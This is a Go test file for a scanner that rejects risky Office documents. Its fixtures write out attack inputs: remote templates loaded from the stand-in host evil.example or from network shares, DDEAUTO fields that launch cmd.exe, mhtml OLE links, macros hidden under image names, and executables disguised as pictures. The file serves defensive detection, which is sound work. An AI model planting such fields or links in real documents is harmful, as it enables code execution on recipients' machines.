package ooxml

import (
	"archive/zip"
	"bytes"
	"errors"
	"fmt"
	"io"
	"math/rand/v2"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/stretchr/testify/require"

	"gatehouse/storage"
)

func TestOrdinaryDocumentsPass(t *testing.T) {
	for ext := range mainTypes {
		t.Run(ext, func(t *testing.T) {
			requireReason(t, "", checkBytes(pack(t, ordinary(ext)), ext, testLimits))
		})
		t.Run(ext+" stored", func(t *testing.T) {
			data := packWith(t, ordinary(ext), func(h *zip.FileHeader) { h.Method = zip.Store })
			requireReason(t, "", checkBytes(data, ext, testLimits))
		})
		t.Run(ext+" with folders", func(t *testing.T) {
			data := packWith(t, append([]part{{"docProps/", ""}}, ordinary(ext)...), func(h *zip.FileHeader) {})
			requireReason(t, "", checkBytes(data, ext, testLimits))
		})
	}
}

func utf16le(s string) string {
	var b strings.Builder
	b.WriteString("\xff\xfe")
	for _, u := range utf16.Encode([]rune(s)) {
		b.WriteByte(byte(u))
		b.WriteByte(byte(u >> 8))
	}
	return b.String()
}

func ole(streams ...string) string {
	b := magicOLE + strings.Repeat("\x00", 1000)
	for _, s := range streams {
		b += utf16le(s)[2:] + strings.Repeat("\x00", 64)
	}
	return b
}

func word(body string) part {
	return part{"word/document.xml", xmlHead + `<w:document xmlns:w="` + wordNS + `"><w:body>` + body + `</w:body></w:document>`}
}

func TestDocxContent(t *testing.T) {
	settings := func(relation string) part { return part{"word/_rels/settings.xml.rels", relsXML(relation)} }
	workbook := string(pack(t, ordinary("xlsx")))
	macroWorkbook := string(pack(t, append(ordinary("xlsx"), part{"xl/vbaProject.bin", "x"})))
	tests := []struct {
		name   string
		reason string
		parts  []part
	}{
		{"template on a drive", "", []part{settings(external("attachedTemplate", `file:///C:\Users\a\Templates\Corp.dotx`))}},
		{"template on a Mac", "", []part{settings(external("attachedTemplate", `file:///Users/a/Corp.dotx`))}},
		{"template over http", "ooxml_remote_template", []part{settings(external("attachedTemplate", "http://evil.example/t.dotm"))}},
		{"template over http, escaped", "ooxml_remote_template", []part{settings(external("attachedTemplate", "&#x68;ttp:%2F%2Fevil.example/t.dotm"))}},
		{"template over http in UTF-16", "ooxml_remote_template", []part{{"word/_rels/settings.xml.rels", utf16le(
			strings.Replace(relsXML(external("attachedTemplate", "http://evil.example/t.dotm")), "UTF-8", "UTF-16", 1))}}},
		{"template on a share", "ooxml_remote_template", []part{settings(external("attachedTemplate", `\\evil\s\t.dotm`))}},
		{"template on a file share", "ooxml_remote_template", []part{settings(external("attachedTemplate", `file:///\\evil\s\t.dotm`))}},
		{"template on a file host", "ooxml_remote_template", []part{settings(external("attachedTemplate", `file://localhost.evil.example/t.dotm`))}},
		{"frame", "ooxml_external_relation", []part{{"word/_rels/webSettings.xml.rels", relsXML(external("frame", "http://evil.example/"))}}},
		{"ole link by mhtml", "ooxml_external_relation", []part{{"word/_rels/document.xml.rels", relsXML(external("oleObject", "mhtml:http://evil.example/x!x-usc:http://evil.example/x"))}}},
		{"ole link to a drive", "", []part{{"word/_rels/document.xml.rels", relsXML(external("oleObject", `file:///D:\Book1.xlsx!Sheet1`))}}},
		{"picture on a share", "ooxml_external_relation", []part{{"word/_rels/document.xml.rels", relsXML(external("image", `\\evil\s\x.png`))}}},
		{"missing picture", "", []part{{"word/_rels/document.xml.rels", relsXML(external("image", "NULL"))}}},
		{"link to a share", "", []part{{"word/_rels/document.xml.rels", relsXML(external("hyperlink", `\\server\share\plan.docx`))}}},

		{"vbaProject.bin", "ooxml_macro", []part{{"word/vbaProject.bin", "x"}}},
		{"macro under another name", "ooxml_macro", []part{{"word/media/image9.png", ole("VBA", "_VBA_PROJECT")}}},
		{"macro relation", "ooxml_macro", []part{{"word/_rels/document.xml.rels", relsXML(rel("vbaProject", "media/a.png"))}}},
		{"macro type", "ooxml_macro", []part{{"[Content_Types].xml", typesXML("docx", `<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>`)}}},
		{"ActiveX", "ooxml_activex", []part{{"word/activeX/activeX1.xml", xmlHead + "<ax/>"}}},
		{"ActiveX relation", "ooxml_activex", []part{{"word/_rels/document.xml.rels", relsXML(rel("control", "x.xml"))}}},

		{"embedded workbook", "", []part{{"word/embeddings/Microsoft_Excel_Sheet1.xlsx", workbook}}},
		{"embedded binary workbook type", "", []part{{"[Content_Types].xml", typesXML("docx", `<Default Extension="xlsb" ContentType="application/vnd.ms-excel.sheet.binary.macroEnabled.12"/>`)}}},
		{"embedded workbook with macros", "ooxml_macro", []part{{"word/embeddings/Microsoft_Excel_Sheet1.xlsx", macroWorkbook}}},
		{"embedded equation", "", []part{{"word/embeddings/oleObject1.bin", ole("Equation Native", "\x01CompObj")}}},
		{"embedded file package", "ooxml_embedded_object", []part{{"word/embeddings/oleObject1.bin", ole("\x01Ole10Native")}}},
		{"program", "ooxml_embedded_program", []part{{"word/media/image2.png", "MZ\x90\x00" + strings.Repeat("x", 100)}}},
		{"ELF", "ooxml_embedded_program", []part{{"word/media/image2.png", "\x7fELF\x02"}}},
		{"Mach-O", "ooxml_embedded_program", []part{{"word/media/image2.png", "\xcf\xfa\xed\xfe\x07"}}},
		{"shell script", "ooxml_embedded_program", []part{{"customXml/x.dat", "#!/bin/sh\n"}}},
		{"jar", "ooxml_embedded_program", []part{{"word/embeddings/x.bin", string(pack(t, []part{{"META-INF/MANIFEST.MF", "x"}}))}}},
		{"rar", "ooxml_embedded_archive", []part{{"word/embeddings/x.bin", "Rar!\x1a\x07\x00"}}},
		{"compressed metafile", "", []part{{"word/media/image1.emz", "\x1f\x8b\x08\x00"}}},
		{"obfuscated font that begins with MZ", "", []part{{"word/fonts/font1.odttf", "MZ" + strings.Repeat("\xaa", 100)}}},

		{"dde field", "ooxml_dde", []part{word(`<w:r><w:fldChar w:fldCharType="begin"/><w:instrText xml:space="preserve"> DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" </w:instrText><w:fldChar w:fldCharType="separate"/></w:r>`)}},
		{"dde field in pieces", "ooxml_dde", []part{word(`<w:fldChar w:fldCharType="begin"/><w:instrText>D</w:instrText></w:r><w:r><w:instrText>&#68;<![CDATA[E]]></w:instrText><w:t>no</w:t><w:instrText> cmd</w:instrText><w:fldChar w:fldCharType="end"/>`)}},
		{"dde field behind white space", "ooxml_dde", []part{word(`<w:fldChar w:fldCharType="begin"/><w:instrText xml:space="preserve">` + strings.Repeat(" &#9;", 800) + `DDEAUTO c:\\x</w:instrText><w:fldChar w:fldCharType="end"/>`)}},
		{"dde field without an end", "ooxml_dde", []part{word(`<w:fldChar w:fldCharType="begin"/><w:instrText>DDE cmd x</w:instrText>`)}},
		{"imported part", "ooxml_alt_chunk", []part{{"word/_rels/document.xml.rels", relsXML(rel("aFChunk", "a.htm"))}}},
		{"dde simple field", "ooxml_dde", []part{word(`<w:fldSimple w:instr=' dde "cmd"'/>`)}},
		{"page field", "", []part{word(`<w:fldSimple w:instr=" PAGE \* MERGEFORMAT "/><w:fldChar w:fldCharType="begin"/><w:instrText> TOC \o "1-3" </w:instrText><w:fldChar w:fldCharType="end"/>`)}},

		{"doctype", "ooxml_dtd", []part{{"word/document.xml", xmlHead + `<!DOCTYPE x [<!ENTITY a "b">]><w:document/>`}}},
		{"doctype in UTF-16", "ooxml_dtd", []part{{"customXml/item1.xml", utf16le(`<!DOCTYPE x []><x/>`)}}},
		{"doctype under a free name", "ooxml_dtd", []part{{"customXml/item1.dat", ` <!DOCTYPE x []><x/>`}}},
		{"doctype of a picture", "", []part{{"word/media/image3.svg", `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x"><svg/>`}}},
		{"UTF-7", "ooxml_malformed_xml", []part{{"word/styles.xml", `<?xml version="1.0" encoding="UTF-7"?><a/>`}}},
		{"NUL in XML", "ooxml_malformed_xml", []part{word("a\x00b")}},
		{"huge attribute", "", []part{word(`<w:pict o:gfxdata="` + strings.Repeat("UEsDBBQ>", 100_000) + `"/>`)}},
		{"huge comment", "", []part{word(`<!--` + strings.Repeat("< > -- ", 50_000) + `-->`)}},

		{"no content types", "ooxml_missing_part", []part{{"[Content_Types].xml", ""}}},
		{"no relations", "ooxml_missing_part", []part{{"_rels/.rels", ""}}},
		{"no main part", "ooxml_missing_part", []part{{"word/document.xml", ""}}},
		{"no main relation", "ooxml_missing_part", []part{{"_rels/.rels", relsXML()}}},
		{"two main relations", "ooxml_missing_part", []part{{"_rels/.rels", relsXML(rel("officeDocument", "word/document.xml"), rel("officeDocument", "/word/document.xml"))}}},
		{"strict main relation", "", []part{{"_rels/.rels", strings.ReplaceAll(relsXML(rel("officeDocument", "/word/document.xml")), officeNS, "http://purl.oclc.org/ooxml/officeDocument/relationships")}}},
		{"template saved as docx", "ooxml_wrong_type", []part{{"[Content_Types].xml", strings.Replace(typesXML("docx"), "document.main", "template.main", 1)}}},
		{"macro document saved as docx", "ooxml_macro", []part{{"[Content_Types].xml", strings.Replace(typesXML("docx"), mainTypes["docx"], "application/vnd.ms-word.document.macroEnabled.main+xml", 1)}}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			requireReason(t, tt.reason, checkBytes(pack(t, with(ordinary("docx"), tt.parts...)), "docx", testLimits))
		})
	}
}

func TestOtherKinds(t *testing.T) {
	link := part{"xl/externalLinks/externalLink1.xml", xmlHead + `<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`}
	requireReason(t, "ooxml_dde", checkBytes(pack(t, with(ordinary("xlsx"), link)), "xlsx", testLimits))

	book := part{"xl/externalLinks/_rels/externalLink1.xml.rels", relsXML(external("externalLinkPath", "http://evil.example/b.xlsx"))}
	requireReason(t, "ooxml_external_relation", checkBytes(pack(t, with(ordinary("xlsx"), book)), "xlsx", testLimits))
	book.body = relsXML(external("externalLinkPath", "Budget%202025.xlsx"))
	requireReason(t, "", checkBytes(pack(t, with(ordinary("xlsx"), book)), "xlsx", testLimits))

	sheet := part{"xl/macrosheets/sheet1.xml", xmlHead + "<x/>"}
	requireReason(t, "ooxml_macro", checkBytes(pack(t, with(ordinary("xlsx"), sheet)), "xlsx", testLimits))

	err := checkBytes(pack(t, ordinary("xlsx")), "docx", testLimits)
	requireReason(t, "ooxml_wrong_type", err)
	require.Equal(t, storage.CodeTypeMismatch, storage.CodeOf(err))

	requireReason(t, "ooxml_encrypted", checkBytes([]byte(ole("EncryptedPackage")), "docx", testLimits))
}

type failing struct {
	io.ReaderAt
	after int64
}

func (f failing) ReadAt(p []byte, off int64) (int, error) {
	if off < f.after {
		return 0, errors.New("disk on fire")
	}
	return f.ReaderAt.ReadAt(p, off)
}

// TestOwnFaultIsNoRefusal: a disk that does not read must not be blamed on the client.
func TestOwnFaultIsNoRefusal(t *testing.T) {
	data := pack(t, ordinary("docx"))
	for _, after := range []int64{1, 200, int64(len(data))} {
		err := Check(failing{bytes.NewReader(data), after}, int64(len(data)), "docx", testLimits)
		require.ErrorContains(t, err, "disk on fire")
		require.Empty(t, storage.CodeOf(err))
	}
}

// BenchmarkCheck shows the speed in bytes unpacked, for a part whose markup is read and one that is only unpacked.
func BenchmarkCheck(b *testing.B) {
	random := rand.New(rand.NewPCG(1, 2))
	var body strings.Builder
	for body.Len() < 32<<20 {
		fmt.Fprintf(&body, `<w:p w:rsidR="%08X"><w:r><w:t xml:space="preserve">line %d</w:t></w:r></w:p>`, random.Uint32(), random.Uint64())
	}
	for name, p := range map[string]part{"fields": word(body.String()), "other": {"word/media/x.bin", "text " + body.String()}} {
		data := pack(b, with(ordinary("docx"), p))
		b.Run(name, func(b *testing.B) {
			b.SetBytes(32 << 20)
			b.ReportAllocs()
			for b.Loop() {
				if err := checkBytes(data, "docx", testLimits); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}
